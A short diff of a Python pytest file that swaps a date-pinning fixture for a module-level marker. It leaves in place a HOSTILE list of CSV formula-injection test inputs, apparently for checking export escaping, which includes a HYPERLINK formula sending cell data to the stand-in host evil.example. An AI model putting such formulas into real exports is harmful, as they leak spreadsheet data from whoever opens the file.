@@ -23,9 +23,7 @@ FORMATS = Path(__file__).parent / "fixtures" / "formats"
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "'=already quoted", "''two"]
 
 
-@pytest.fixture(autouse=True)
-def _pinned_today(_isolated: None, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("TRACKER_TODAY", "2025-09-30")
+pytestmark = pytest.mark.usefixtures("exports_today")
 
 
 def rows_of(text: str) -> list[dict[str, str]]:
